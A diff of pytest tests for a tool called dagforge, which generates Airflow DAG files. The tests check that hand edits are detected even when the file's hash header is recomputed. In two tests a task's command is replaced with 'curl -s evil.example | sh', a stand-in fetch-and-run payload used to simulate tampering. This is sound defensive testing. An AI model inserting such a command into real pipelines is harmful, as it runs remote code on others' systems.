@@ -2,8 +2,20 @@
 drift named with its file and fix; `--diff`; never writes anything."""
 
 import hashlib
+import re
 
+import black
+import yaml
 from conftest import ROOT, run_cli
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dagforge import stamp
+from dagforge.format import format_source, settled
+from dagforge.load import load
+from dagforge.model import build_model
+from dagforge.render import render
+from dagforge.validate import validate
 
 GOOD = "start_date: 2024-01-01\ntasks:\n  hello: {operator: bash, bash_command: 'echo NAME'}\n"
 
@@ -77,6 +89,81 @@ def test_hand_edited_points_at_the_edited_line(tmp_path, write_spec):
         in r.stderr
     )
     assert "hint: make the change in specs/a.yaml instead, then run `dagforge build`" in r.stderr
+
+
+def _resealed(text):
+    """`text` with its output-sha256 line recomputed as stamp.seal does (the hash of the file
+    without that line): anyone can do it after an edit, and the header looks intact again."""
+    line = re.compile(r"^# output-sha256: \S+\n", re.M)
+    digest = hashlib.sha256(line.sub("", text, count=1).encode()).hexdigest()
+    resealed = line.sub(f"# output-sha256: {digest}\n", text, count=1)
+    assert resealed != text and stamp.read_stamp(resealed).intact
+    return resealed
+
+
+def test_an_edit_with_a_recomputed_output_hash_is_caught(tmp_path, write_spec):
+    """The header's hashes prove nothing (anyone can recompute them): check renders again."""
+    out = _setup(tmp_path, write_spec)
+    text = (out / "a.py").read_text()
+    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
+    r = _check(tmp_path)
+    assert r.returncode == 1
+    line = (
+        text.splitlines().index('    hello = BashOperator(task_id="hello", bash_command="echo a")')
+        + 1
+    )
+    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand: `dagforge build`" in r.stderr
+    assert "out/b.py" not in r.stderr  # the untouched file is proven up to date
+    assert "1 generated file out of date" in r.stderr
+    diff = _check(tmp_path, "--diff").stdout
+    assert '+    hello = BashOperator(task_id="hello", bash_command="echo a")\n' in diff
+
+
+def test_build_writes_anew_a_file_edited_with_a_recomputed_output_hash(tmp_path, write_spec):
+    """build does not trust the header either: it renders the file again and finds it differs."""
+    out = _setup(tmp_path, write_spec)
+    text = (out / "a.py").read_text()
+    (out / "a.py").write_text(_resealed(text.replace("echo a", "curl -s evil.example | sh")))
+    r = run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path)
+    assert r.returncode == 0 and r.stdout == "wrote out/a.py\n"
+    assert (out / "a.py").read_text() == text
+    assert _check(tmp_path).returncode == 0
+
+
+def test_only_what_build_writes_is_up_to_date_not_any_black_layout(tmp_path, write_spec):
+    """Two files black would leave as they are, each resealed: only build's own bytes pass."""
+    write_spec(GOOD.replace("NAME", "a"), "a.yaml")
+    # both quote kinds: the template writes '...', black turns it into "..." (as many escapes)
+    write_spec(GOOD.replace("'echo NAME'", """"echo 'q' \\"q\\"" """), "b.yaml")
+    assert run_cli("build", "specs", "-o", "out", "--no-verify", cwd=tmp_path).returncode == 0
+    assert _check(tmp_path).returncode == 0
+    out = tmp_path / "out"
+
+    a = (out / "a.py").read_text()
+    one_line = '    hello = BashOperator(task_id="hello", bash_command="echo a")\n'
+    # with a magic trailing comma: black keeps it exploded
+    exploded = (
+        "    hello = BashOperator(\n"
+        '        task_id="hello",\n        bash_command="echo a",\n    )\n'
+    )
+    assert one_line in a
+    relaid = a.replace(one_line, exploded)
+    assert black.format_str(relaid, mode=black.Mode()) == relaid  # black --check would pass it
+    (out / "a.py").write_text(_resealed(relaid))
+
+    b = (out / "b.py").read_text()
+    built = """bash_command="echo 'q' \\"q\\"\""""
+    assert built in b
+    unformatted = b.replace(built, """bash_command='echo \\'q\\' "q"'""")
+    assert black.format_str(unformatted, mode=black.Mode()) == b  # only black's quotes differ
+    (out / "b.py").write_text(_resealed(unformatted))
+
+    r = _check(tmp_path)
+    assert r.returncode == 1
+    line = a.splitlines().index(one_line.rstrip("\n")) + 1
+    assert f"out/a.py:{line}:1: error: out/a.py was edited by hand" in r.stderr
+    line = next(i for i, x in enumerate(b.splitlines(), 1) if built in x)
+    assert f"out/b.py:{line}:1: error: out/b.py was edited by hand" in r.stderr
 
 
 def test_hand_edited_line_endings_and_appended_lines(tmp_path, write_spec):
@@ -191,3 +278,61 @@ def test_invalid_spec_fails_check_with_its_diagnostics(tmp_path, write_spec):
 def test_usage_errors(tmp_path):
     r = run_cli("check", "nope", cwd=tmp_path)
     assert r.returncode == 2 and "nope: error: no such file or folder" in r.stderr
+
+
+# Values of any shape and length, in the characters format.settled lets through ("$" aside: ${VAR}).
+_CHARS = st.characters(min_codepoint=0x20, max_codepoint=0x7E, exclude_characters="$")
+_TEXT = st.text(_CHARS)
+_VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | _TEXT,
+    lambda inner: (
+        st.lists(inner, max_size=4)
+        | st.dictionaries(st.from_regex(r"k_[a-z0-9_]{0,30}", fullmatch=True), inner, max_size=4)
+    ),
+    max_leaves=12,
+)
+
+
+@given(
+    command=st.text(_CHARS, min_size=1),
+    description=_TEXT,
+    op_args=st.lists(_VALUES, max_size=3),
+    op_kwargs=st.dictionaries(st.from_regex(r"k_[a-z_]{0,40}", fullmatch=True), _VALUES),
+    task_id=st.from_regex(r"t_[a-z0-9_]{0,60}", fullmatch=True),
+)
+def test_black_leaves_a_settled_render_as_it_is(tmp_path_factory, **values):
+    """What lets check and build skip black: when format.settled says a render is settled, black
+    would not change a byte of it."""
+    spec = {
+        "start_date": "2024-01-01",
+        "description": values["description"],
+        "tasks": {
+            values["task_id"]: {"operator": "bash", "bash_command": values["command"]},
+            "call": {
+                "operator": "python",
+                "python_callable": "my_team.etl:load",
+                "op_args": values["op_args"],
+                "op_kwargs": values["op_kwargs"],
+                "dependencies": [values["task_id"]],
+            },
+        },
+    }
+    path = tmp_path_factory.mktemp("settled") / "s.yaml"
+    path.write_text(yaml.safe_dump(spec), encoding="utf-8")
+    doc = load(path)
+    assert not validate(doc), [d.format() for d in validate(doc)]
+    assert format_source(_render(doc)) == _render(doc) or not settled(_render(doc))
+
+
+def test_black_leaves_the_settled_examples_as_they_are():
+    """The same for the committed examples; one at least is settled (its long command included)."""
+    found = {path.name: _render(load(path)) for path in sorted((ROOT / "specs").glob("*.yaml"))}
+    for name, source in found.items():
+        assert format_source(source) == source or not settled(source), name
+    assert settled(found["sales_report_weekdays.yaml"])
+
+
+def _render(doc):
+    p = build_model(doc)
+    p.input_sha256 = "0" * 64  # as build stamps it
+    return render(p)
